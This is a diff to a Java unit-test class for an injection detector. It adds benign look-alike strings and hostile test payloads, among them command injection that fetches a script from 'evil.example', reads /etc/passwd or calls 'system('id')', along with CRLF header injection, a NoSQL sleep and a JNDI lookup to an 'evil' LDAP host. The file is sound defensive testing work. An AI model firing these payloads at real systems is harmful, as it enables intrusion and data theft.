@@ -31,7 +31,9 @@ class DetectorsTest {
         "Caf%C3%A9 cr%C3%A8me", "sleep 8 hours a night", "Which cat is yours?", "curl up with a book",
         "etc. and passwords", "He said 'more please'", "Tom & Reg went home", "see /about for more",
         "Part 2/3: the end", "50%c0ffee", "3 or 5 large boxes", "\"red shoes\" and \"blue hats\"",
-        "frames 8\" or 10\"", "It' is not a drill at all", "Bob' union selected him", "windows, system32 and more"})
+        "frames 8\" or 10\"", "It' is not a drill at all", "Bob' union selected him", "windows, system32 and more",
+        "\\\\", "first\u2028second", "para one\u2029para two", "next\u0085line: ok", "the ecosystem('s) health",
+        "run system (\"the\" best)"})
     void passesBenignLookAlikes(String s) {
         assertEquals(Optional.empty(), inspect(s), s);
     }
@@ -60,7 +62,8 @@ class DetectorsTest {
         "uname -a|COMMAND", "netsh firewall set opmode disable|COMMAND", "perl -e 'print 1'|COMMAND",
         "curl https://evil.example/x.sh|COMMAND", "sleep 10|COMMAND", "which wget|COMMAND", "x' whoami|COMMAND",
         "<?php system('id'); ?>|COMMAND", "; phpinfo()|COMMAND", "cat${IFS}/etc/passwd|COMMAND",
-        "a%0a/bin/ls -al|COMMAND",
+        "a%0a/bin/ls -al|COMMAND", "os.system('id')|COMMAND", "Kernel.exec( \"id\")|COMMAND",
+        "x;shell_exec('uname')|COMMAND", "%x(id)|COMMAND", "x\u2028Set-Cookie: a=b|CRLF", "x\u0085Location: /|CRLF",
         "%0aX-Cache2-Status: hit|CRLF",
         "{\"$where\":\"sleep(1000)\"}|NOSQL",
         "x%0d%0aSet-Cookie: a=b|CRLF", "{{7*7}}|TEMPLATE", "${jndi:ldap://evil/a}|TEMPLATE", "#{7*7}|TEMPLATE",
@@ -114,7 +117,7 @@ class DetectorsTest {
     @ValueSource(strings = {"'", "\"", "%25", "&#x26;", "<", "..", "$(", "{{", "\\u0027", "-- ", "or 1=", "a",
         "%%32", "%%32%65", "%c0", "%c1%pc", "%c0%", "%e0%80", "%f0%80%80", "%fc%80%80%80%80", "%bg", "' ", "'\t",
         "..\u2215", "0x2e", "..2f", "which ", "uname ", "\n\n", "#@", "etc%", "etc",
-        "windows%c1", "\" and \""})
+        "windows%c1", "\" and \"", "(\"", "system(\"", "%x(", "\u2028"})
     void workIsLinearInLengthOnPathologicalInput(String unit) {
         int target = 1 << 20;
         String s = unit.repeat(target / unit.length());
